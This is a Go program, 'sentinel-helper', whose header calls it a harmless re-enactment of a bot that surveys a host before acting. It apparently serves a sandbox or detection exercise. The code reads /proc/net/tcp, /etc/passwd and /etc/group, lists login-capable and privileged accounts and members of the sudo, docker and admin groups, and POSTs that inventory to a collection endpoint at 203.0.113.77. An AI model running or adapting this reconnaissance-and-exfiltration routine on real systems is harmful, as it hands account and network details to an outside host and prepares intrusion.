// sentinel-helper: harmless re-enactment of a bot that looks around before acting. It reads
// the host's own files (no netstat, no getent): /proc/net/tcp for sockets, /etc/passwd and
// /etc/group for accounts, and reports them to 203.0.113.77 (a documentation address the
// sandbox answers). Bounded: one pass, one request.
package main

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"time"
)

var states = map[string]string{"01": "ESTABLISHED", "02": "SYN_SENT", "06": "TIME_WAIT", "0A": "LISTEN"}

func addr(s string) string {
	parts := strings.Split(s, ":")
	if len(parts) != 2 {
		return s
	}
	b, err := hex.DecodeString(parts[0])
	if err != nil || len(b) != 4 {
		return s
	}
	port, _ := strconv.ParseUint(parts[1], 16, 16)
	return fmt.Sprintf("%d.%d.%d.%d:%d", b[3], b[2], b[1], b[0], port)
}

func main() {
	ln, err := net.Listen("tcp", "127.0.0.1:26379")
	if err == nil {
		defer ln.Close()
	}
	var out bytes.Buffer
	if raw, err := os.ReadFile("/proc/net/tcp"); err == nil {
		for i, line := range strings.Split(string(raw), "\n") {
			f := strings.Fields(line)
			if i == 0 || len(f) < 4 {
				continue
			}
			state := states[f[3]]
			if state == "" {
				state = f[3]
			}
			fmt.Fprintf(&out, "tcp %s %s %s\n", addr(f[1]), addr(f[2]), state)
		}
	}
	if raw, err := os.ReadFile("/etc/passwd"); err == nil {
		for _, line := range strings.Split(string(raw), "\n") {
			f := strings.Split(line, ":")
			if len(f) < 7 {
				continue
			}
			if f[2] == "0" || !strings.HasSuffix(f[6], "nologin") {
				fmt.Fprintf(&out, "user %s uid=%s home=%s shell=%s\n", f[0], f[2], f[5], f[6])
			}
		}
	}
	if raw, err := os.ReadFile("/etc/group"); err == nil {
		for _, line := range strings.Split(string(raw), "\n") {
			f := strings.Split(line, ":")
			if len(f) == 4 && f[3] != "" {
				switch f[0] {
				case "root", "sudo", "wheel", "docker", "adm":
					fmt.Fprintf(&out, "group %s %s\n", f[0], f[3])
				}
			}
		}
	}
	fmt.Print(out.String())
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Post("http://203.0.113.77/collect/inv", "text/plain", &out)
	if err != nil {
		fmt.Println("sentinel-helper: report failed:", err)
		return
	}
	resp.Body.Close()
	fmt.Println("sentinel-helper: reported", resp.Status)
}
